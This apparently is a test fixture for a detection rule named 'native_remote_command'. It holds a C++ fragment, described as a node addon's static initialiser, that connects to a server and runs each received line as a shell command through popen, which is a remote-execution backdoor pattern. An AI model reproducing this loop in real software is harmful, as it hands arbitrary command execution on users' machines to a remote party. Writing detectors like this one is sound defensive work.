// A node addon's static initialiser: a thread reads lines from a server and runs each with popen.
#include <cstdio>
#include <sys/socket.h>
#include <netinet/in.h>
#include <unistd.h>

static void worker(int s, sockaddr_in *a) {
    if (connect(s, reinterpret_cast<sockaddr *>(a), sizeof *a) == 0) {
        char line[1024];
        ssize_t n;
        while ((n = recv(s, line, sizeof line - 1, 0)) > 0) {
            line[n] = 0;
            // ruleid: native_remote_command
            FILE *f = popen(line, "r");
            if (f) pclose(f);
        }
    }
    close(s);
}
